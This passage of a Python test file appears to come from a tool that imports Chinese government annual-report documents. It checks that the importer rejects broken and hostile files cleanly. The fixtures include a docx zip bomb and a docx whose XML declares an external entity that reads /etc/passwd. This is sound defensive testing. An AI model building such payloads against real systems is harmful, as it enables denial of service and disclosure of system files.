    big = repeated("word/document.xml", body, b"<w:p><w:r><w:t>" + b"1" * 65000 + b"</w:t></w:r></w:p>", GIB,
                   b"</w:body></w:document>")
    write_zip(path, replaced(members_of(source), "word/document.xml", big))


@pytest.fixture(scope="module")
def a_docx(tmp_path_factory) -> Path:
    import docx

    path = tmp_path_factory.mktemp("docx") / "报告.docx"
    d = docx.Document()
    d.add_paragraph("测试区教育局2025年政府信息公开工作年度报告")
    d.save(path)
    return path


@pytest.mark.parametrize("name, make, words", [
    ("空.docx", lambda p, src: p.write_bytes(b""), ["空.docx", "空"]),
    ("截断.docx", lambda p, src: p.write_bytes(src.read_bytes()[:500]), ["截断.docx"]),
    ("炸弹.docx", _docx_bomb, ["炸弹.docx", "压缩炸弹"]),
    ("实体.docx", lambda p, src: write_zip(p, replaced(members_of(src), "word/document.xml", with_dtd(
        read_member(src, "word/document.xml"), external_entity("/etc/passwd", "w:document")))), ["实体.docx", "DTD"]),
    ("文件夹.docx", lambda p, src: p.mkdir(), ["文件夹.docx"]),
    ("随机.pdf", lambda p, src: p.write_bytes(bytes(range(256)) * 4), ["随机.pdf"]),
    ("空.html", lambda p, src: p.write_bytes(b""), ["空.html"]),
    ("二进制.txt", lambda p, src: p.write_bytes(b"\x00\x01" * 100), ["二进制.txt"]),
])
def test_import_refuses_broken_and_hostile_reports_naming_them(a_docx, tmp_path, name, make, words):
    path = tmp_path / name
    make(path, a_docx)
    before = tree_hash(tmp_path)
    r = run_cli("import", path, "-o", tmp_path / "out.json")
    no_traceback(r)
    assert r.returncode == 2, r.stdout + r.stderr
    for w in words:
        assert w in r.stderr, r.stderr
    assert not (tmp_path / "out.json").exists()
    assert tree_hash(tmp_path) == before
    assert "root:" not in r.stdout + r.stderr


def test_formulas_are_found_with_or_without_a_namespace_prefix():
    from nianbao.xlsx_read import formulas_in

    plain = (b'<worksheet xmlns="m"><sheetData><row r="5"><c r="D5"><f>SUM(A1:A2)&amp;"&#20182;"</f><v>3</v></c>'
             b'<c r="E5" t="s"><v>0</v></c><c r="F5"><f t="shared" si="0"/><v>1</v></c></row></sheetData></worksheet>')
    assert formulas_in(plain) == {"D5": 'SUM(A1:A2)&"他"', "F5": "（共享公式）"}
    prefixed = plain.replace(b"<", b"<x:").replace(b"<x:/", b"</x:").replace(b'xmlns="m"', b'xmlns:x="m"')
    assert formulas_in(prefixed) == formulas_in(plain)
    assert formulas_in(plain.replace(b"<f>SUM(A1:A2)&amp;\"&#20182;\"</f>", b"")) == {"F5": "（共享公式）"}
